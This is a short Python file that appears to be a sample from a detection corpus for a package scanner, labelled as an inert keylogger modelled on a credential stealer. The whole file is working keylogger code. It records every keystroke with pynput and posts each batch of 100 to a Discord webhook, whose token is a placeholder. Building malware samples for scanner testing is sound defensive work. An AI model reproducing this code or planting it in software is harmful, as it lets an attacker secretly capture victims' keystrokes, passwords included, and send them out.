# pkgguard corpus 062 (keylogger), modelled on [stealer-profile]; inert, never run.
import requests
from pynput import keyboard

buffer = []


def on_press(key):
    buffer.append(str(key))
    if len(buffer) >= 100:
        requests.post("https://discord.com/api/webhooks/1000000000000000000/placeholder-token-0000000000000000", json={"content": "".join(buffer)})
        buffer.clear()


with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
